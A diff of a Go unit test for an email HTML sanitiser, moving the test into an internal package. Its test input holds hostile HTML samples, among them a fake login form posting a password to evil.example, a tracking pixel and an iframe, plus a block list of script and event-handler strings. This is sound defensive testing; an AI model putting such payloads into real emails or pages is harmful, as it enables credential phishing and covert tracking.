@@ -1,10 +1,8 @@
-package sendgate_test
+package messaging
 
 import (
 	"strings"
 	"testing"
-
-	"github.com/leadluence/backend/shared/sendgate"
 )
 
 func TestSanitizeEmailHTML(t *testing.T) {
@@ -13,7 +11,7 @@ func TestSanitizeEmailHTML(t *testing.T) {
 		`<form action="https://evil.example/collect"><input name="password"><button>Log in</button></form>` +
 		`<img src="https://track.example/pixel.gif" width="1" height="1"><iframe src="https://evil.example"></iframe>` +
 		`<style>p{display:none}</style><table><tr><td>Price</td><td>50 L</td></tr></table>`
-	out := sendgate.SanitizeEmailHTML(in)
+	out := sanitizeEmailHTML(in)
 	for _, bad := range []string{"<script", "alert(1)", "onclick", "onmouseover", "javascript:", "<form", "<input", "<button",
 		"<img", "track.example", "<iframe", "<style", "evil.example"} {
 		if strings.Contains(out, bad) {
@@ -26,7 +24,7 @@ func TestSanitizeEmailHTML(t *testing.T) {
 			t.Errorf("sanitized html lacks %q: %s", good, out)
 		}
 	}
-	if got := sendgate.SanitizeEmailHTML("<p>Please find the brochure.</p>"); got != "<p>Please find the brochure.</p>" {
+	if got := sanitizeEmailHTML("<p>Please find the brochure.</p>"); got != "<p>Please find the brochure.</p>" {
 		t.Errorf("plain html changed: %s", got)
 	}
 }
